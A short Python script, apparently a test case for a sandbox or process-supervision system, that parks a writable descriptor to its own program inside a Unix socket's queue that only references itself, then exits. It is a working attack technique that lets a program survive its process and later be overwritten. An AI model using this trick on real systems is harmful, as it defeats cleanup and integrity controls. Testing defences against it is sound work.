# ends: again
# Leaves its program open for writing in the queue of a socket that only its own queue refers to.
import os, socket
from attack import replace_program, send_descriptors
alone = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
alone.bind("alone")
alone.connect("alone")
send_descriptors(alone, [alone.fileno(), replace_program()])
print("left", flush=True)
os._exit(0)
